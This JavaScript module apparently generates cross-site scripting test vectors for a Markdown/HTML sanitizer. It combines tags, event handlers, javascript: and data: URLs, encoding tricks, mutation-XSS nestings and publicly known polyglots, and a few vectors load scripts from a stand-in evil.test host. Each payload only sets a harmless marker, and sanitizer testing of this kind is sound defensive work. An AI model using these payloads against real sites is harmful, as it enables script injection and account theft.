// What people have tried, and what can be made up, to smuggle a script into a page. Every script sets __xss.
//
// Each vector is {kind, text}: Markdown and plain text at once; nothing in it may come to life anywhere.

const script = '__xss=1'

const elements = [
  'a', 'abbr', 'area', 'article', 'audio', 'base', 'bdo', 'body', 'button', 'canvas', 'custom-tag', 'details', 'dialog',
  'div', 'embed', 'fieldset', 'form', 'frameset', 'iframe', 'image', 'img', 'input', 'isindex', 'keygen', 'label', 'link',
  'map', 'marquee', 'math', 'meta', 'meter', 'object', 'option', 'p', 'select', 'slot', 'span', 'style', 'svg', 'table',
  'td', 'template', 'textarea', 'video',
]

const events = [
  'onload', 'onerror', 'onclick', 'onmouseover', 'onmouseenter', 'onpointerenter', 'onfocus', 'onfocusin', 'onblur',
  'ontoggle', 'onbeforetoggle', 'onanimationstart', 'onanimationend', 'ontransitionend', 'onbegin', 'onend', 'onrepeat',
  'oncanplay', 'onloadstart', 'onplay', 'oncut', 'oncopy', 'onpaste', 'oninput', 'oninvalid', 'onsubmit', 'onreset',
  'onkeydown', 'onwheel', 'onscroll', 'ondrag', 'ondrop', 'onresize', 'onhashchange', 'onpageshow', 'onmessage',
  'onfinish', 'onbounce', 'oncontextmenu', 'onselectionchange', 'onsecuritypolicyviolation', 'onslotchange',
]

const quotings = [(v) => v, (v) => `"${v}"`, (v) => `'${v}'`, (v) => '`' + v + '`', (v) => `"${v}`]

// How a tag or its attributes may be written so that one reader misses what another sees.
const spellings = [
  (tag, on, value) => `<${tag} ${on}=${value}>`,
  (tag, on, value) => `<${tag.toUpperCase()} ${on.toUpperCase()}=${value}>`,
  (tag, on, value) => `<${tag}/${on}=${value}//`,
  (tag, on, value) => `<${tag}\t${on}\t=\t${value}>`,
  (tag, on, value) => `<${tag}\f${on}=${value} `,
  (tag, on, value) => `<${tag} x="'" ${on}=${value}`,
  (tag, on, value) => `<${tag} src=x alt=a ${on} = ${value} autofocus tabindex=1 open>`,
  (tag, on, value) => `&lt;${tag} ${on}=${value}&gt;`,
  (tag, on, value) => `&#60;${tag} ${on}=${value}&#x3e;`,
  (tag, on, value) => `<<${tag} ${on}=${value}>${tag}>`,
  (tag, on, value) => `"><${tag} ${on}=${value}>`,
  (tag, on, value) => `'><${tag} ${on}=${value}>`,
  (tag, on, value) => `" ${on}=${value} x="`,
  (tag, on, value) => `' ${on}=${value} x='`,
  (tag, on, value) => `--><${tag} ${on}=${value}>`,
  (tag, on, value) => `</textarea></title><${tag} ${on}=${value}>`,
  (tag, on, value) => `${tag}\u2028${on}=${value}><${tag}\u00a0${on}=${value}>`,
  (tag, on, value) => `\uff1c${tag} ${on}=${value}\uff1e`,
]

const scripts = [
  (s) => s,
  (s) => s.replace(/_/g, '&#95;'),
  (s) => s.replace(/_/g, '&lowbar;'),
  (s) => s.replace(/x/, '\\u0078'),
  (s) => `eval(atob('${btoa(s)}'))`,
]

function attributes() {
  const made = []
  let n = 0
  for (const tag of elements)
    for (const on of events) {
      const value = quotings[n % quotings.length](scripts[n % scripts.length](script))
      made.push({ kind: 'element × event', text: spellings[n++ % spellings.length](tag, on, value) })
    }
  return made
}

const schemes = ['javascript', 'vbscript', 'data', 'file', 'blob', 'livescript', 'feed', 'view-source', 'jar', 'ws']

function destination(scheme) {
  if (scheme === 'data') return `data:text/html,<script>${script}</script>`
  if (scheme === 'feed') return `feed:javascript:${script}`
  return `${scheme}:${script}`
}

const disguises = [
  (s) => s,
  (s) => s.toUpperCase(),
  (s) => s.replace(/./g, (c, i) => (i % 2 ? c.toUpperCase() : c)),
  (s) => s.slice(0, 4) + '&Tab;' + s.slice(4),
  (s) => s.slice(0, 4) + '&NewLine;' + s.slice(4),
  (s) => s.slice(0, 2) + '&#x0a;' + s.slice(2),
  (s) => s.slice(0, 2) + '&#13;' + s.slice(2),
  (s) => s.slice(0, 3) + '\t' + s.slice(3),
  (s) => '&#1;' + s,
  (s) => '\u0001' + s,
  (s) => '&#x20;' + s,
  (s) => '\u00a0' + s,
  (s) => '\ufeff' + s,
  (s) => '&#0;' + s,
  (s) => s.replace(':', '&colon;'),
  (s) => s.replace(':', '&#58;'),
  (s) => s.replace(':', '&#x000003a;'),
  (s) => s.replace(':', '\\:'),
  (s) => s.replace(':', '%3A'),
  (s) => s.replace(':', '\uff1a'),
  (s) => s.replace(':', '\t:'),
  (s) => s.replace(/^./, (c) => `&#${c.charCodeAt(0)};`),
  (s) => s.replace(/^./, (c) => `&#x${c.charCodeAt(0).toString(16)}`),
  (s) => s.replace(/[a-z]/g, (c) => `&#0000${c.charCodeAt(0)};`),
  (s) => '%6a' + s.slice(1),
  (s) => '\\u006a' + s.slice(1),
  (s) => '//' + s,
  (s) => '\\' + s,
  (s) => s.slice(0, 4) + '\u200b' + s.slice(4),
  (s) => s.slice(0, 4) + '&shy;' + s.slice(4),
]

// Where Markdown and HTML take a destination.
const holders = [
  (d) => `[words](${d})`,
  (d) => `[words](<${d}> "words")`,
  (d) => `![words](${d} 'words')`,
  (d) => `<${d}>`,
  (d) => `<a href="${d}">words</a>`,
  (d) => `[words][to]\n\n[to]: ${d}`,
  (d) => `<form action='${d}'><button formaction=${d}>words`,
  (d) => `[words]( ${d} "\\" onclick=${script} x=\\"")`,
]

function destinations() {
  const made = []
  for (const scheme of schemes)
    for (const disguise of disguises)
      for (const hold of [0, 1].map((k) => holders[(made.length + k * 3) % holders.length]))
        made.push({ kind: 'scheme × disguise', text: hold(disguise(destination(scheme))) })
  for (const disguise of disguises)
    for (const hold of holders) made.push({ kind: 'scheme × holder', text: hold(disguise(destination('javascript'))) })
  return made
}

// Shapes that change when they are parsed, written and parsed again.
const outer = ['svg', 'math', 'table', 'select', 'form']
const inner = [
  'style', 'title', 'desc', 'mtext', 'mglyph', 'mi', 'annotation-xml encoding="text/html"', 'foreignObject', 'noscript',
  'template', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes', 'plaintext', 'script', 'p', 'malignmark',
]
const cores = [
  (close) => `<${close}><img src=x onerror=${script}>`,
  (close) => `<!--</${close}><img src=x onerror=${script}>-->`,
  (close) => `<a id="</${close}><img src=x onerror=${script}>">`,
  (close) => `<![CDATA[</${close}><img src=x onerror=${script}>]]>`,
  (close) => `</${close}><script>${script}</script>`,
  (close) => `&lt;/${close}&gt;&lt;img src=x onerror=${script}&gt;`,
]

function mutations() {
  const made = []
  for (const o of outer)
    for (const i of inner)
      for (const core of cores)
        made.push({ kind: 'mutation', text: `<${o}><${i}>${core(i.split(' ')[0])}` })
  return made
}

const known = [
  `<script>${script}</script>`, `<SCRIPT>${script}</SCRIPT>`, `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<script src=data:text/javascript,${script}></script>`, `<script/x>${script}</script >`, `<script\n>${script}</script\n>`,
  `<<SCRIPT>${script}//<</SCRIPT>`, `<script>${script}//`, `<script x=">">${script}</script>`, `<script/src=//evil.test/x.js>`,
  `</script><script>${script}</script>`, `';${script};//`, `\\";${script};//`, `'-${script}-'`, `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`, `<%= ${script} %>`, `#{${script}}`, `{{{${script}}}}`, `{{> head}}`, `{{t.nav_skip}}`, `<?php ${script} ?>`,
  `<img src="x" onerror="${script}">`, `<img """><script>${script}</script>">`, `<img src=x:x onerror=${script}//`, `<IMG SRC=javascript:${script}>`,
  `<img src=1 href=1 onerror="javascript:${script}"></img>`, `<img/src/onerror=${script}>`, `<img src\t=x onerror\n=\n${script}>`,
  `<IMG LOWSRC="javascript:${script}">`, `<IMG DYNSRC="javascript:${script}">`, `<img srcset=",,x" onerror=${script}>`, `<image src=x onerror=${script}>`,
  `<svg onload=${script}>`, `<svg/onload=${script}`, `<svg><script>${script}</script></svg>`, `<svg><script>&#95;&#95;xss=1</script>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${script}"><text y=9>words</text></a></svg>`,
  `<svg><set attributeName=href to=javascript:${script}>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='${script}'/>#x">`,
  `<svg><image href=x onerror=${script}>`, `<svg><foreignObject><body onload=${script}>`, `<svg><handler type=text/javascript ev:event=load>${script}`,
  `<svg><style><img src=x onerror=${script}></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
  `<math href="javascript:${script}">words</math>`, `<math><maction actiontype=statusline xlink:href=javascript:${script}>words`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${script} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`, `<noembed><noembed title="</noembed><img src onerror=${script}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${script}>">`, `<xmp><p title="</xmp><svg/onload=${script}>">`,
  `<title><a title="</title><img src=x onerror=${script}>">`, `<!--><img src=x onerror=${script}>-->`, `<!-- --!><img src=x onerror=${script}>`,
  `<![><img src=x onerror=${script}>]>`, `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${script}>">]>&y;`, `<!-----\n><img src=x onerror=${script}>`,
  `<comment><img src="</comment><img src=x onerror=${script})//">`, `<style>@import'data:text/css,*{x:expression(${script})}';</style>`,
  `<style>*{background:url(javascript:${script})}</style>`, `<p style="background:url(javascript:${script})">words`, `<div style=width:expression(${script})>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationend="${script}">words`, `<link rel=stylesheet href="javascript:${script}">`,
  `<link rel=import href="data:text/html,<script>${script}</script>">`, `<base href="javascript:/${script}//">`, `<base target=_top href=//evil.test>`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`, `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${script}</script>">`,
  `<meta http-equiv=Set-Cookie content="stele_session=x">`, `<iframe src="javascript:${script}">`, `<iframe srcdoc="<script>parent.${script}</script>">`,
  `<iframe srcdoc=&lt;script&gt;parent.${script}&lt;/script&gt;>`, `<iframe/src="data:text/html,<script>parent.${script}</script>">`,
  `<object data="javascript:${script}">`, `<object data="data:text/html,<script>parent.${script}</script>"></object>`, `<embed src="javascript:${script}">`,
  `<embed code="//evil.test/x.swf" allowscriptaccess=always>`, `<applet code="x.class" archive=//evil.test/x.jar>`, `<frameset onload=${script}>`,
  `<body onload=${script}>`, `<body background="javascript:${script}">`, `<BODY ONLOAD=${script}>`, `<body onpageshow=${script}>`, `<bgsound src="javascript:${script}">`,
  `<input type=image src=x onerror=${script}>`, `<input autofocus onfocus=${script}>`, `<input onblur=${script} autofocus><input autofocus>`,
  `<select autofocus onfocus=${script}>`, `<textarea autofocus onfocus=${script}>`, `<keygen autofocus onfocus=${script}>`, `<isindex action=javascript:${script} type=image>`,
  `<button form=x formaction=javascript:${script}>words`, `<form id=x></form><button form=x formaction="javascript:${script}">words`,
  `<form action=javascript:${script}><input type=submit>`, `<video><source onerror="${script}">`, `<video src=_ onloadstart="${script}">`,
  `<video poster=javascript:${script}//></video>`, `<audio src=x onerror=${script}>`, `<details open ontoggle=${script}>`, `<dialog open oncancel=${script}>`,
  `<marquee onstart=${script}>words</marquee>`, `<table background="javascript:${script}">`, `<td background="javascript:${script}">`, `<a href="javascript:${script}">words</a>`,
  `<a href=java&#1&#2&#3&#4&#5&#6&#7&#8&#11&#12script:${script}>words</a>`, `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${script}">words</a>`,
  `<a href="jav\u0000ascript:${script}">words</a>`, `<a onmouseover=${script}>words`, `<a title="a>" onclick=${script} href=#>words`, `<a href=x ping=javascript:${script}>words`,
  `<a target="x" href="//evil.test/" rel=opener>words</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+">words</a>`,
  `<x onclick=${script}>words</x>`, `<x contenteditable onbeforeinput=${script}>words`, `<x id=x tabindex=1 onfocus=${script}></x>`, `<x is=onload onload=${script}>`,
  `<script>__xss\u2028=1</script>`, `<scRIPT>${script}</scRIPT >`, `+ADw-script+AD4-${script}+ADw-/script+AD4-`, `\u00bcscript\u00be${script}\u00bc/script\u00be`,
  `%3Cscript%3E${script}%3C/script%3E`, `%253Cscript%253E${script}`, `\\x3cscript\\x3e${script}\\x3c/script\\x3e`, `\\u003cscript\\u003e${script}`, `&lt;script&gt;${script}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${script}&amp;lt;/script&amp;gt;`, `&ltscript&gt${script}`, `&#x3c;script&#x3e;${script}`, `&#0000060script&#62;${script}`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${script} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${script}//>\\x3e`,
  `">'><svg/onload=${script}>`, `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html \\" onmouseover=/*&lt;svg/*/onload=${script}//>`,
  `[words](javascript:${script})`, `[words](JaVaScRiPt:${script})`, `[words](javascript&colon;${script})`, `[words](javas\tcript:${script})`, `![words](javascript:${script})`,
  `![words](x"onerror="${script})`, `![words](x 'x"onerror="${script}')`, `![words"onerror="${script}](x)`, `[words](x 'x" onclick="${script}')`, `[words](<x" onclick="${script}>)`,
  `[words](https://example.org/"onclick="${script})`, `<https://example.org/"onclick="${script}>`, `<javascript:${script}>`, `[x]: javascript:${script}\n\n[x]`,
  `[<img src=x onerror=${script}>](x)`, `[![words](javascript:${script})](javascript:${script})`, '```x" onclick="' + script + '\nwords\n```', '`<img src=x onerror=' + script + '>`',
  `| <img src=x onerror=${script}> | x |\n| - | - |\n| "onclick=${script} | x |`, `- [x" onclick="${script}] words`, `# <img src=x onerror=${script}> {#x" onclick="${script}}`,
  `<!-- <script>${script}</script> -->`, `<!-- --><img src=x onerror=${script}>`, `<?x0?><img src=x onerror=${script}>`, `<div\n\nonclick=${script}>`, `*<img src=x onerror=${script}*>`,
  `_<a href="javascript:_${script}">words</a>`, `~~<img/src=x~~/onerror=${script}>`, `\\<img src=x onerror=${script}\\>`, `http://example.org/<img src=x onerror=${script}>`,
  `x@example.org"onclick="${script}`, `<x@example.org"onclick="${script}>`, `[words](mailto:x"onclick=${script})`, `[words](tel:"onclick=${script})`, `&Lt;img src=x onerror=${script}&Gt;`,
]

// Each text once.
export function allVectors() {
  const all = [...known.map((text) => ({ kind: 'publicly known', text })), ...attributes(), ...destinations(), ...mutations()]
  return [...new Map(all.map((v) => [v.text, v])).values()]
}

// A sample that has some of every kind and every spelling; all of them for `every` 1.
export const sample = (vectors, every) => vectors.filter((v, i) => v.kind === 'publicly known' || i % every === 0)

export function countByKind(vectors) {
  const counts = {}
  for (const { kind } of vectors) counts[kind] = (counts[kind] ?? 0) + 1
  return counts
}
